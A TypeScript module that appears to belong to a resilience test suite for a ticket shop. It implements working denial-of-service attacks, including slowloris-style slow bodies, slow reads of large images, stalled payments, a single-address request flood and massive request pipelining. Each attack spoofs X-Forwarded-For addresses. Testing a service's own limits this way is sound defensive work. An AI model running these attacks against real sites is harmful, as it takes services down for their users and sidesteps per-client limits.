import { randomBytes } from 'node:crypto';
import { connect, createServer, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { expectStatus, httpClient, repeat } from './load.ts';
import { cookieOf, saveData, startPayment } from './load-visitors.ts';
import { addressOf, addToCart, type Goods } from './purchase.ts';

/** The shop under attack, and a ticket to buy there. */
export type Attacked = { readonly origin: string; readonly goods: Goods };

/** Stops an attack; resolves once all its requests and connections have ended. */
export type Stop = () => Promise<void>;

/** Starts an attack from this machine that uses more than a fair share of the shop's resources. Runs until stopped. */
export type Attack = (attacked: Attacked) => Stop | Promise<Stop>;

/** Attackers have addresses that no visitor has. */
let attackers = 5_000_000;

const nextAddress = (): string => {
  attackers += 1;
  return addressOf(attackers);
};

/** Repeats an action in `count` concurrent loops. */
const again = (count: number, act: (over: AbortSignal) => Promise<void>): Stop => {
  const end = new AbortController();
  const loop = async (): Promise<void> => {
    while (!end.signal.aborted) await act(end.signal);
  };
  const all = Promise.all(Array.from({ length: count }, loop));
  return async () => {
    end.abort();
    await all;
  };
};

/** Opens one connection, waits until either side closes it, and pauses for a second. `begin` returns a function that
 *  stops its timers. */
const connection = async (origin: string, over: AbortSignal, begin: (socket: Socket) => () => void): Promise<void> => {
  const { hostname, port } = new URL(origin);
  const socket = connect({ port: Number(port), host: hostname, signal: over });
  const end = begin(socket);
  await new Promise<void>((resolve) => socket.on('error', () => undefined).once('close', () => resolve()));
  end();
  if (!over.aborted) await pause(1000);
};

const headOf = (line: string, address: string): string =>
  `${line} HTTP/1.1\r\nHost: shop\r\nX-Forwarded-For: ${address}\r\n`;

/** 64 connections that each send one byte of a request body per second. */
export const bodies: Attack = ({ origin }) =>
  again(64, (over) =>
    connection(origin, over, (socket) => {
      const head = headOf('POST /Shop/AddTicketToCart', nextAddress());
      socket.resume().write(`${head}Content-Type: application/json\r\nContent-Length: 4096\r\n\r\n `);
      const timer = setInterval(() => socket.write(' '), 1000);
      return () => clearInterval(timer);
    }),
  );

/** 80 connections that request a large picture again and again, and read a chunk every ten seconds. The operating
 *  system buffers five such answers of a connection that reads nothing. */
export const pictures: Attack = async ({ origin }) => {
  const { call, close } = httpClient(origin, 1);
  const page = await call('/sl/vstopnice-bazeni');
  close();
  const [path] = /\/media\/termalija-day\.jpg[^" ,]*width=3840/.exec(page.body) ?? [];
  if (path === undefined) throw new Error('no large picture');
  return again(80, (over) =>
    connection(origin, over, (socket) => {
      const ask = `${headOf(`GET ${path.replaceAll('&amp;', '&')}`, nextAddress())}\r\n`;
      let requests = 0;
      const asking = setInterval(() => {
        requests += 1;
        if (requests <= 16) socket.write(ask);
      }, 100);
      const reading = setInterval(() => {
        socket.read(64 * 1024);
        socket.write(ask);
      }, 10_000);
      return () => [asking, reading].forEach(clearInterval);
    }),
  );
};

/** 200 buyers who pay at a payment page that does not answer, and try again. */
export const payments: Attack = async ({ origin, goods }) => {
  const http = httpClient(origin, Number.POSITIVE_INFINITY);
  const payers: (() => Promise<unknown>)[] = [];
  await repeat(200, 16, async () => {
    attackers += 1;
    const from = { 'x-forwarded-for': addressOf(attackers) };
    const added = await addToCart(http, goods, `payer-${attackers}`, attackers);
    const { cartId } = JSON.parse(added.body);
    const cookie = cookieOf(expectStatus(await saveData(http, cartId, from), 200));
    payers.push(() => startPayment(http, { cartId, cookie }, from));
  });
  const stop = again(payers.length, async () => {
    const pay = payers.shift();
    await pay?.().catch(() => undefined);
    if (pay !== undefined) payers.push(pay);
    await pause(1000);
  });
  return async () => {
    await stop();
    http.close();
  };
};

/** One address with 190 requests at once, half of them with the cookie of a buyer at the checkout. */
export const network: Attack = ({ origin }) => {
  const http = httpClient(origin, 190);
  const address = nextAddress();
  let turn = 0;
  const stop = again(190, async () => {
    turn += 1;
    const headers = { 'x-forwarded-for': address, cookie: turn % 2 === 0 ? 'checkout=x' : '' };
    const { status } = await http.call('/sl/vstopnice-bazeni', { headers }).catch(() => ({ status: 0 }));
    if (status !== 200) await pause(100);
  });
  return async () => {
    await stop();
    http.close();
  };
};

/** 60 connections that send 20 MB of pipelined requests, for a page or for the health check, without waiting for
 *  answers. */
export const pipelined: Attack = ({ origin }) => {
  let turn = 0;
  return again(60, async (over) => {
    turn += 1;
    const ask = `${headOf(turn % 2 === 0 ? 'GET /healthz' : 'GET /sl/vstopnice-bazeni', nextAddress())}\r\n`;
    await connection(origin, over, (socket) => {
      socket.resume().write(ask.repeat(20_000_000 / 60 / ask.length));
      return () => undefined;
    });
    await pause(600_000, undefined, { signal: over }).catch(() => undefined);
  });
};

/** Starts a payment page that accepts connections and never answers. Returns it with the settings of a shop that
 *  uses it. */
export const silentPage = async () => {
  const server = createServer((socket) => void socket.on('error', () => undefined).resume());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = address !== null && typeof address === 'object' ? address.port : 0;
  const settings = { PAYMENT_URL: `http://127.0.0.1:${port}`, PAYMENT_SECRET: randomBytes(16).toString('hex') };
  return { settings, close: () => void server.close() };
};
